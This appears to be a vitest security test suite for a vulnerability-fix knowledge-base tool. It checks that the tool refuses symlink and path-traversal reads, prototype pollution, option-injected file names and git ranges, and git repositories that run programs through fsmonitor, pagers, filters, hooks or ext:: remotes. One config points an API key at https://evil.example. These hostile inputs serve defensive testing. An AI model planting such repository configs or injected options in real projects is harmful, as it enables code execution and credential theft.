// Longer than 400 lines: a list of attacks on places, which is read and counted as one.
import { execFileSync } from 'node:child_process'
import {
  cpSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  realpathSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { expect } from 'vitest'
import {
  buildKnowledgeBase,
  FileCallLog,
  HashedEmbeddings,
  KnowledgeVectors,
  knowledgeDigest,
  loadKnowledgeBase,
  loadKnowledgePatches,
  readOsvFixes,
  readPatches,
  saveKnowledgeBase,
} from '../../src/index.js'
import { changesOfRange } from '../../src/review/index.js'
import { sampleBase } from '../knowledge/sample-base.js'
import { TestRepository } from '../patches/git-repository.js'
import { attacks } from './attack.js'
import { command, fix } from './poisoned.js'

const folder = () => realpathSync(mkdtempSync(join(tmpdir(), 'rescue-security-')))
const secret = 'the content of a file that is none of their business'

/** A saved base, with a private file of the user beside it. */
function savedBase() {
  const outside = folder()
  const dir = join(outside, 'base')
  saveKnowledgeBase(sampleBase(), dir)
  writeFileSync(join(outside, 'private.txt'), `${secret}\n`)
  return { dir, private: join(outside, 'private.txt') }
}
function changeManifest(dir: string, change: (manifest: { files: Record<string, unknown> }) => void): void {
  const file = join(dir, 'manifest.json')
  const manifest = JSON.parse(readFileSync(file, 'utf8'))
  change(manifest)
  writeFileSync(file, JSON.stringify(manifest))
}
const invalid = expect.objectContaining({ code: 'KNOWLEDGE_INVALID' })

attacks('bases from elsewhere', [
  ...['manifest.json', 'examples.jsonl', 'guidelines.jsonl', 'reviews.jsonl', 'vectors/0.bin'].map(
    (name) => ({
      name: `link-${name.replace('/', '-')}`,
      tried: `${name} of a base is a link to a file of the user, which would be read into prompts or errors`,
      check: async () => {
        const base = savedBase()
        mkdirSync(join(base.dir, 'vectors'), { recursive: true })
        rmSync(join(base.dir, name), { force: true })
        symlinkSync(base.private, join(base.dir, name))
        const failure = await loadKnowledgeBase(base.dir).catch((error: unknown) => error)
        expect(failure).toEqual(invalid)
        expect(String(failure)).toContain('leads out of the directory')
        expect(String(failure)).not.toContain(secret)
      },
    }),
  ),
  {
    name: 'link-folder',
    tried: 'the folder of vectors is a link to a folder of the user',
    check: async () => {
      const base = savedBase()
      const other = folder()
      writeFileSync(join(other, 'x.bin'), secret)
      symlinkSync(other, join(base.dir, 'vectors'))
      await expect(loadKnowledgeBase(base.dir)).rejects.toEqual(invalid)
    },
  },
  {
    name: 'manifest-path',
    tried: 'the manifest names a file outside of its directory',
    check: async () => {
      const base = savedBase()
      changeManifest(base.dir, ({ files }) => {
        files['../private.txt'] = files['examples.jsonl']
      })
      expect(JSON.stringify((await loadKnowledgeBase(base.dir)).parts)).not.toContain(secret)
    },
  },
  {
    name: 'pipe',
    tried: 'a file of a base is a pipe, which nobody ever writes to',
    check: async () => {
      const base = savedBase()
      rmSync(join(base.dir, 'causes.jsonl'))
      execFileSync('mkfifo', [join(base.dir, 'causes.jsonl')])
      await expect(loadKnowledgeBase(base.dir)).rejects.toEqual(invalid)
    },
  },
  {
    name: 'edited-line',
    tried: 'a guideline is changed in a base on its way',
    check: async () => {
      const { dir } = savedBase()
      const file = join(dir, 'guidelines.jsonl')
      writeFileSync(file, readFileSync(file, 'utf8').replace('Bind values.', 'Build SQL.'))
      await expect(loadKnowledgeBase(dir)).rejects.toEqual(invalid)
    },
  },
  {
    name: 'edited-with-manifest',
    tried: 'the same, and the digests in the manifest are made to fit',
    check: async () => {
      const { dir } = savedBase()
      const digest = (await command(['inspect', dir, '--digest'])).stdout.trim()
      await expect(loadKnowledgeBase(dir, { digest })).resolves.toBeDefined()
      changeManifest(dir, (manifest) => Object.assign(manifest, { embedder: 'another' }))
      await expect(loadKnowledgeBase(dir)).resolves.toBeDefined()
      await expect(loadKnowledgeBase(dir, { digest })).rejects.toEqual(invalid)
      await expect(loadKnowledgePatches(dir, { digest })).rejects.toEqual(invalid)
    },
  },
  {
    name: 'added-review',
    tried: 'a decision of a reviewer is slipped in, for which the manifest has no digest',
    check: async () => {
      const { dir } = savedBase()
      const digest = knowledgeDigest(dir)
      const review = { about: 'guideline', cwe: 'CWE-89', text: 'Bind values.', decision: 'reject' }
      writeFileSync(join(dir, 'reviews.jsonl'), `${JSON.stringify(review)}\n`)
      await expect(loadKnowledgeBase(dir, { digest })).rejects.toEqual(invalid)
    },
  },
  {
    name: 'added-vectors',
    tried: 'vectors are added that lead retrieval to what the attacker wants',
    check: async () => {
      const { dir } = savedBase()
      const digest = knowledgeDigest(dir)
      mkdirSync(join(dir, 'vectors'))
      const vectors = await KnowledgeVectors.of(['x'], new HashedEmbeddings())
      writeFileSync(join(dir, 'vectors', '0.bin'), vectors.encode())
      await expect(loadKnowledgeBase(dir, { digest })).rejects.toEqual(invalid)
    },
  },
  {
    name: 'prototype',
    tried: 'a line of a base names __proto__, to change every object of the program',
    check: async () => {
      const { dir } = savedBase()
      const line =
        '{"about":"guideline","cwe":"CWE-89","text":"x","decision":"reject","__proto__":{"polluted":1}}'
      writeFileSync(join(dir, 'reviews.jsonl'), `${line}\n`)
      await loadKnowledgeBase(dir).catch(() => undefined)
      await buildKnowledgeBase([
        JSON.parse(JSON.stringify(fix()).replace('{', '{"__proto__":{"polluted":1},')),
      ])
      expect(({} as { polluted?: number }).polluted).toBeUndefined()
    },
  },
  {
    name: 'cwe-path',
    tried: 'the number of a weakness is a path',
    check: async () => {
      const { dir } = savedBase()
      const review = { about: 'guideline', cwe: '../../etc', text: 'x', decision: 'reject' }
      writeFileSync(join(dir, 'reviews.jsonl'), `${JSON.stringify(review)}\n`)
      await expect(loadKnowledgeBase(dir)).rejects.toEqual(invalid)
      const { base } = await buildKnowledgeBase([fix({ cwe: 'CWE-89/../../etc' })])
      expect(base.weaknesses.map(({ cwe }) => cwe)).toEqual(['CWE-89'])
    },
  },
  {
    name: 'provenance',
    tried: 'somebody wonders where a sentence and an example come from, and nothing says it',
    check: async () => {
      const origin = { source: 'team', file: 'a.py', function: 'find', commit: 'f00d' }
      const dir = join(folder(), 'base')
      const { base } = await buildKnowledgeBase([fix({ origin })])
      saveKnowledgeBase(base, dir)
      const task = [
        '--language',
        'python',
        '--description',
        'find a user by name in a SQL database',
        '--no-llm',
      ]
      const { stdout } = await command(['retrieve', ...task, '--knowledge', dir, '--json'])
      const found = JSON.parse(stdout)
      const kept = await loadKnowledgeBase(dir)
      expect(kept.examples.map((example) => example.origin)).toEqual([origin])
      expect(kept.weaknesses[0]!.guidelines.every((guideline) => guideline.origin === 'extractive')).toBe(
        true,
      )
      expect(found.provenance).toHaveLength(found.guidelines.length)
      for (const example of found.examples) expect(example.origin).toEqual(origin)
    },
  },
])

attacks('directories of fixes from elsewhere', [
  {
    name: 'link-in-pair',
    tried: 'the vulnerable side of a pair is a link to a file of the user, which would go into the base',
    check: async () => {
      const dir = folder()
      writeFileSync(join(dir, 'private.py'), `"${secret}"\n`)
      mkdirSync(join(dir, 'pairs', 'CWE-89', 'one'), { recursive: true })
      mkdirSync(join(dir, 'pairs', 'CWE-89', 'two'), { recursive: true })
      for (const [name, text] of [
        ['vulnerable.py', fix().before] as const,
        ['secure.py', fix().after] as const,
      ]) {
        writeFileSync(join(dir, 'pairs', 'CWE-89', 'one', name), text)
      }
      symlinkSync(join(dir, 'private.py'), join(dir, 'pairs', 'CWE-89', 'two', 'vulnerable.py'))
      writeFileSync(join(dir, 'pairs', 'CWE-89', 'two', 'secure.py'), fix().after)
      const { patches, base } = await buildKnowledgeBase(readPatches(join(dir, 'pairs')))
      expect(base.examples).toHaveLength(1)
      expect(JSON.stringify(patches)).not.toContain(secret)
    },
  },
  {
    name: 'link-to-records',
    tried: 'a directory of records holds a link to records of the user',
    check: async () => {
      const dir = folder()
      mkdirSync(join(dir, 'fixes'))
      writeFileSync(join(dir, 'private.jsonl'), `${JSON.stringify(fix({ id: 'private' }))}\n`)
      writeFileSync(
        join(dir, 'fixes', 'a.jsonl'),
        `${JSON.stringify(fix({ id: 'own', after: `${fix().after}x = 1\n` }))}\n`,
      )
      symlinkSync(join(dir, 'private.jsonl'), join(dir, 'fixes', 'b.jsonl'))
      const { patches } = await buildKnowledgeBase(readPatches(join(dir, 'fixes')))
      expect(patches.map(({ id }) => id)).toEqual(['own'])
    },
  },
  {
    name: 'link-to-advisory',
    tried: 'a directory of advisories holds a link out of it',
    check: async () => {
      const dir = folder()
      mkdirSync(join(dir, 'osv'))
      writeFileSync(join(dir, 'private.json'), '{"not":"an advisory"}')
      symlinkSync(join(dir, 'private.json'), join(dir, 'osv', 'a.json'))
      expect((await readOsvFixes(join(dir, 'osv'))).skipped).toEqual([])
    },
  },
  {
    name: 'names-with-dashes',
    tried: 'files that are called like options',
    check: async () => {
      const dir = folder()
      writeFileSync(join(dir, '--out=evil.jsonl'), `${JSON.stringify(fix())}\n`)
      const run = await command(['build', '--out', join(dir, 'base'), '--', join(dir, '--out=evil.jsonl')])
      expect(run.code).toBe(0)
      expect(readdirSync(dir).sort()).toEqual(['--out=evil.jsonl', 'base'])
    },
  },
])

/** A repository that would run a program of its own, if anything let it. */
function hostileRepository() {
  const repository = new TestRepository()
  const mark = join(folder(), 'ran')
  const program = join(repository.path, '.git', 'evil')
  writeFileSync(program, `#!/bin/sh\ntouch "${mark}"\nexit 0\n`, { mode: 0o755 })
  repository.commit('begin', {
    'a.py': fix().before,
    '.gitattributes': '*.py diff=evil filter=evil\n',
  })
  repository.commit('Fix SQL injection', { 'a.py': fix().after })
  const head = repository.git('cat-file', 'commit', 'HEAD')
  const signed = head.replace(
    /\n\n/,
    '\ngpgsig -----BEGIN PGP SIGNATURE-----\n x\n -----END PGP SIGNATURE-----\n\n',
  )
  const file = join(repository.path, '.git', 'signed')
  writeFileSync(file, `${signed}\n`)
  repository.git('reset', '--quiet', '--hard', repository.git('hash-object', '-t', 'commit', '-w', file))
  return {
    repository,
    mark,
    program,
    set: (key: string, value = program) => repository.git('config', key, value),
  }
}

attacks('git repositories from elsewhere', [
  ...[
    ['fsmonitor', ['core.fsmonitor']],
    ['pager', ['core.pager', 'pager.log', 'pager.diff']],
    ['diff', ['diff.external', 'diff.evil.command']],
    ['textconv', ['diff.evil.textconv']],
    ['filter', ['filter.evil.smudge', 'filter.evil.clean', 'filter.evil.process']],
    ['signature', ['gpg.program', 'gpg.openpgp.program']],
    ['alias', ['alias.log', 'alias.rev-parse']].map((value) => (typeof value === 'string' ? value : value)),
  ].map(([kind, keys]) => ({
    name: `git-${String(kind)}`,
    tried: `the configuration of a repository names a program that git would run: ${[keys].flat().join(', ')}`,
    check: async () => {
      const { repository, mark, program, set } = hostileRepository()
      for (const key of [keys].flat()) set(key!, key!.startsWith('alias.') ? `!${program}` : program)
      if (kind === 'signature') set('log.showSignature', 'true')
      const { patches } = await buildKnowledgeBase(readPatches(repository.path))
      expect(patches).toHaveLength(1)
      const { texts } = await changesOfRange('HEAD~1..HEAD', { cwd: repository.path })
      expect(texts).toHaveLength(1)
      expect(existsSync(mark)).toBe(false)
    },
  })),
  {
    name: 'git-hooks',
    tried: 'a hook of a repository',
    check: async () => {
      const { repository, mark, program } = hostileRepository()
      for (const hook of ['post-index-change', 'reference-transaction', 'post-checkout']) {
        cpSync(program, join(repository.path, '.git', 'hooks', hook))
      }
      await buildKnowledgeBase(readPatches(repository.path))
      await changesOfRange('HEAD~1..HEAD', { cwd: repository.path })
      expect(existsSync(mark)).toBe(false)
    },
  },
  {
    name: 'git-lazy-fetch',
    tried: 'an object is missing on purpose, so that git fetches it by a program',
    check: async () => {
      const { repository, mark, program, set } = hostileRepository()
      const blob = repository.git('rev-parse', 'HEAD:a.py')
      rmSync(join(repository.path, '.git', 'objects', blob.slice(0, 2), blob.slice(2)))
      set('remote.origin.url', `ext::${program}`)
      set('remote.origin.promisor', 'true')
      set('protocol.ext.allow', 'always')
      set('extensions.partialClone', 'origin')
      await buildKnowledgeBase(readPatches(repository.path)).catch(() => undefined)
      await changesOfRange('HEAD~1..HEAD', { cwd: repository.path }).catch(() => undefined)
      expect(existsSync(mark)).toBe(false)
    },
  },
  ...['--output=evil', '-O/evil', '--exec=evil..x'].map((range) => ({
    name: `git-range-${range.replace(/\W+/g, '-')}`,
    tried: `a range of revisions is an option of git: ${range}`,
    check: async () => {
      const { repository } = hostileRepository()
      const git = { range }
      const refused = expect.objectContaining({ code: 'INVALID_OPTION' })
      await expect(buildKnowledgeBase(readPatches(repository.path, { git }))).rejects.toEqual(refused)
      await expect(changesOfRange(range, { cwd: repository.path })).rejects.toEqual(refused)
      expect(readdirSync(repository.path)).not.toContain('evil')
    },
  })),
  {
    name: 'git-advisory-option',
    tried: 'an advisory names an option of git as the commit that fixes it',
    check: async () => {
      const { repository } = hostileRepository()
      const git = { commits: [{ hash: '--output=evil' }] }
      const failure = await buildKnowledgeBase(readPatches(repository.path, { git })).catch(
        (error: unknown) => error,
      )
      expect(failure).toMatchObject({ name: 'RescueError' })
      expect(readdirSync(repository.path)).not.toContain('evil')
    },
  },
])

attacks('files that are written', [
  {
    name: 'out-foreign',
    tried: 'a wrong path for a base costs a directory of something else',
    check: () => {
      const dir = folder()
      writeFileSync(join(dir, 'thesis.txt'), 'years')
      expect(() => saveKnowledgeBase(sampleBase(), dir)).toThrow(
        expect.objectContaining({ code: 'FILE_UNWRITABLE' }),
      )
      expect(readFileSync(join(dir, 'thesis.txt'), 'utf8')).toBe('years')
    },
  },
  {
    name: 'out-link-planted',
    tried:
      'a link lies where the temporary file of a page would be guessed, to have another file written over',
    check: async () => {
      const dir = folder()
      const victim = join(dir, 'victim')
      writeFileSync(victim, 'mine')
      symlinkSync(victim, join(dir, `.page.html.${process.pid}.tmp`))
      saveKnowledgeBase(sampleBase(), join(dir, 'base'))
      const { code } = await command(['inspect', join(dir, 'base'), '--html', join(dir, 'page.html')])
      expect(code).toBe(0)
      expect(readFileSync(victim, 'utf8')).toBe('mine')
    },
  },
  {
    name: 'checkpoint-link-planted',
    tried:
      'a link lies where the checkpoint of a build goes, to have answers of a model written into a start-up file',
    check: () => {
      const dir = folder()
      const victim = join(dir, '.profile')
      writeFileSync(victim, 'mine')
      const checkpoint = join(dir, '.base.calls.jsonl')
      symlinkSync(victim, checkpoint)
      expect(() => new FileCallLog(checkpoint)).toThrow(expect.objectContaining({ code: 'FILE_UNREADABLE' }))
      expect(readFileSync(victim, 'utf8')).toBe('mine')
    },
  },
  {
    name: 'config-server',
    tried: 'a repository brings a rescue.config.json that sends the key of the user to a server of its own',
    check: async () => {
      const dir = folder()
      writeFileSync(
        join(dir, 'rescue.config.json'),
        '{"model":"m","baseUrl":"https://evil.example","apiKey":"k"}',
      )
      const args = ['retrieve', '--language', 'python', '--description', 'x']
      const { code, stderr } = await command(args, { cwd: dir })
      expect(code).toBe(2)
      expect(stderr).toContain('belong in the environment')
    },
  },
])
